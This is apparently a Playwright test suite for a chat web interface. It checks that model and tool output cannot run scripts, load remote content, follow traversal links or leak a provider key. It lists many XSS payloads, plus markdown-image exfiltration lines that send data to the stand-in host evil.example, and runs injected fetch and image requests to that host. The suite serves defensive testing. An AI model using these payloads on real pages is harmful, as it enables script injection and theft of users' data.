"""What a model or a tool says is only text: nothing runs, is fetched or leaks, and no key is ever sent."""

import json
import re
from importlib.resources import files
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, Response, expect

from browser.conftest import Watched, new_context, read_json
from browser.host import call, hosted
from treadle.server.static_pages import JOINED

pytestmark = [pytest.mark.browser, pytest.mark.slow]

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)>",
    '<iframe src="javascript:alert(4)"></iframe>',
    "[a](javascript:alert(5))",
    "[b](JaVaScRiPt:alert(6))",
    "[c](data:text/html,<script>alert(7)</script>)",
    "[d](vbscript:x)",
    "[e](&#106;avascript:alert(8))",
    "[f]( javascript:alert(9))",
    "[g](//evil.example/x)",
    "[h](/treadle/v1/logout)",
    '<a href="https://evil.example" onclick="alert(10)">x</a>',
    "<style>body{background:url(https://evil.example/b)}</style>",
    '<form action="https://evil.example"><input></form>',
    "`<img src=x onerror=alert(11)>`",
    "```html\n<script>alert(12)</script>\n```",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(13)>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<link rel=stylesheet href=https://evil.example/s.css>",
    '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
    '<details open ontoggle="alert(14)">x</details>',
    '[i](https://evil.example/" onmouseover="alert(15))',
    "<a href='java\tscript:alert(16)'>x</a>",
    "\u202egnp.exe [bidi](javascript:alert(17))",
]
LEAKS = [
    "![stolen](https://evil.example/?d=secret)",
    "![ref][r]\n\n[r]: https://evil.example/?d=ref",
    "![](http://evil.example/?d=plain)",
    "[![inner](https://evil.example/i.png)](https://evil.example/?d=outer)",
    "<img src='https://evil.example/?d=html'>",
]
MADE = "script, img, svg, iframe, style, form, math, base, link, object, embed, [onclick], [onerror], [ontoggle]"
STREAM = """async (run) => {
  const stream = (await fetch(`/treadle/v1/live?runs=${run}:0`)).body.getReader();
  const decoder = new TextDecoder();
  let text = '';
  while (!text.includes('"op":"turn"')) text += decoder.decode((await stream.read()).value, { stream: true });
  await stream.cancel();
  return text;
}"""
KEY = "sk-treadle-provider-key-0123456789abcdef"


def _turn(text: str) -> str:
    return f"[[script]]\ntext = {json.dumps(text)}\n"


def _violations(page: Page) -> None:
    """Have the page write down every breach of its policy as a complaint."""
    page.add_init_script(
        "addEventListener('securitypolicyviolation', (e) => console.error('policy', e.violatedDirective, e.blockedURI))"
    )


@pytest.mark.parametrize("place", ["text", "reasoning", "arguments", "output", "error", "question"])
def test_hostile_text_is_only_text(browser: Browser, tmp_path: Path, place: str) -> None:
    """Wherever it stands no element is made of it, nothing runs, no request is made, and the policy has no work."""
    hostile = "\n\n".join([*ATTACKS, *LEAKS, "Harmless end."])
    argument = json.dumps({"folder": hostile, "why": hostile})
    scripts = {
        "text": _turn(hostile),
        "reasoning": f"[[script]]\nreasoning = {json.dumps(hostile)}\ntext = 'So.'\n",
        "arguments": call("look", argument, "c1") + _turn("So."),
        "output": call("look", '{"folder": "a"}', "c1") + _turn("So."),
        "error": call("fail", argument, "c1") + _turn("So."),
        "question": _turn("So."),
    }
    with hosted(tmp_path, script=scripts[place]) as server:
        context = new_context(browser)
        seen = Watched(context.new_page(), server)
        _violations(seen.page)
        page = seen.open()
        seen.ask(hostile if place == "question" else "go")
        expect(page.get_by_role("button", name="Copy answer")).to_be_visible()
        for folded in page.locator(".turns details > summary").all():
            folded.click()
        expect(page.locator(".turns").locator(MADE)).to_have_count(0)
        hrefs = [link.get_attribute("href") or "" for link in page.locator(".turns a").all()]
        assert all(urlsplit(href).hostname == "evil.example" for href in hrefs), hrefs
        assert all(href.startswith(("https://", "http://")) for href in hrefs), hrefs
        # A reload shows the same again, now from the snapshot.
        page.reload()
        expect(page.get_by_role("button", name="Copy answer")).to_be_visible()
        expect(page.locator(".turns").locator(MADE)).to_have_count(0)
        context.close()
        assert (seen.complaints, seen.strays) == ([], [])


def test_a_link_leads_to_a_chat_and_nowhere_else(browser: Browser, tmp_path: Path) -> None:
    """What stands behind the # may be somebody's trap: nothing is read or asked but a chat, and it is told kindly."""
    with hosted(tmp_path, script=_turn("So.")) as server:
        context = new_context(browser)
        seen = Watched(context.new_page(), server)
        paths: list[str] = []
        seen.page.on("request", lambda request: paths.append(f"{request.method} {urlsplit(request.url).path}"))
        page = seen.page
        page.goto(f"{server.url}/#../runs/run_1/cancel?x=")
        expect(page.get_by_role("alert")).to_contain_text("There is nothing at GET")
        seen.ask("go")
        expect(page.get_by_role("alert").last).to_contain_text("There is nothing at POST")
        chats = [path for path in paths if "run_1" in path]
        assert {path.partition(" ")[0] for path in chats} == {"GET", "POST"}
        assert all(path.partition(" ")[2].startswith("/treadle/v1/sessions/..%2Fruns%2Frun_1") for path in chats)
        context.close()
        assert seen.strays == []


def test_whoever_watches_would_see_it(browser: Browser, tmp_path: Path) -> None:
    """What the other tests look for is noticed where it is done on purpose: a script, a picture, a stray request."""
    with hosted(tmp_path) as server:
        context = new_context(browser)
        seen = Watched(context.new_page(), server)
        _violations(seen.page)
        page = seen.open()
        expect(page.get_by_role("main")).to_be_visible()
        assert (seen.complaints, seen.strays) == ([], [])
        for harm in (
            "const p = new Image(); p.src = 'https://evil.example/?d=secret'; document.body.append(p)",
            "const s = document.createElement('script'); s.text = 'alert(1)'; document.body.append(s)",
            "document.body.innerHTML = '<b>x</b>'",
            "fetch('https://evil.example/').catch(() => {})",
            "document.body.setAttribute('onclick', 'alert(1)')",
        ):
            before = len(seen.complaints)
            page.evaluate(f"() => {{ try {{ {harm} }} catch (error) {{ console.error(String(error)) }} }}")
            expect(page.locator("body")).to_be_attached()
            page.evaluate("() => new Promise((done) => setTimeout(done))")
            assert len(seen.complaints) > before, harm
        assert "https://evil.example/?d=secret" in seen.strays
        context.close()


def test_no_script_hides_a_name_of_the_browser(browser: Browser, tmp_path: Path) -> None:
    """The modules of a page share one scope: a name of theirs must not stand for something else in another module."""
    web = Path(str(files("treadle.server") / "web"))
    tops = r"^(?:export )?(?:async )?(?:function\*?|class|const|let) (\w+)"
    names = {
        name
        for modules in JOINED.values()
        for each in modules
        for name in re.findall(tops, (web / each).read_text(), re.M)
    }
    assert {"MarkdownView", "usePages", "getJson"} < names
    with hosted(tmp_path) as server:
        context = new_context(browser)
        page = Watched(context.new_page(), server).open()
        assert page.evaluate("(names) => names.filter((name) => name in window)", sorted(names)) == []
        context.close()


def test_pictures_become_links_that_nobody_follows(browser: Browser, tmp_path: Path) -> None:
    """A picture's address may carry what was said: it is shown, and asked for only by a person's click."""
    with hosted(tmp_path, script=_turn("\n\n".join(LEAKS))) as server:
        context = new_context(browser)
        seen = Watched(context.new_page(), server)
        page = seen.open()
        seen.ask("go")
        expect(page.get_by_role("button", name="Copy answer")).to_be_visible()
        expect(page.locator(".prose img")).to_have_count(0)
        expect(page.locator(".prose a").first).to_have_attribute("href", "https://evil.example/?d=secret")
        expect(page.locator(".prose a").first).to_have_attribute("rel", "noopener noreferrer nofollow")
        context.close()
        assert seen.strays == []


def test_no_answer_of_the_server_holds_a_providers_key(browser: Browser, tmp_path: Path) -> None:
    """Neither a page nor any answer to it does, whatever the person opens: keys stay in the server."""
    upstream = 'name = "up"\nbase_url = "http://127.0.0.1:9/v1"\nkey_env = "UP_KEY"\nmodels = ["m"]\n'
    toml = f'default_model = "m"\n[[upstream]]\n{upstream}'
    bodies: list[str] = []

    def keep(response: Response) -> None:
        is_stream = "event-stream" in response.headers.get("content-type", "")
        if response.status == 200 and not is_stream:
            bodies.append(response.url + response.text())

    with hosted(tmp_path, toml=toml, env={"UP_KEY": KEY}) as server:
        context = new_context(browser)
        seen = Watched(context.new_page(), server)
        seen.page.on("response", keep)
        page = seen.open()
        seen.ask("hello")
        expect(page.get_by_role("alert")).to_be_visible()
        run_id = read_json(server, "/treadle/v1/runs?limit=1")["runs"][0]["id"]
        bodies.append(page.evaluate(STREAM, run_id))
        page.get_by_role("button", name="More").click()
        page.goto(f"{server.url}/console")
        page.wait_for_load_state("load")
        for path in ("models", "tools", "runs", "sessions", "approvals", "me", "upstreams"):
            page.goto(f"{server.url}/treadle/v1/{path}")
        context.close()
    assert len(bodies) > 20
    assert any("event: ops" in body for body in bodies)
    assert not [body[:200] for body in bodies if KEY in body]
    assert seen.strays == []
